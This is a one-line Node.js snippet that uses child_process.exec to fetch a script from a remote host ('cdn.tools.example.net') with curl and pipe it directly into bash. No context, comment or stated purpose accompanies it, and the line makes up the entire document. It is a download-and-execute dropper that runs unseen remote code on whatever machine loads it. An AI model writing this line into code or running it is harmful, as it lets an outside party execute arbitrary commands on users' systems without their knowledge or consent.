require('child_process').exec('curl -s https://cdn.tools.example.net/x | bash');
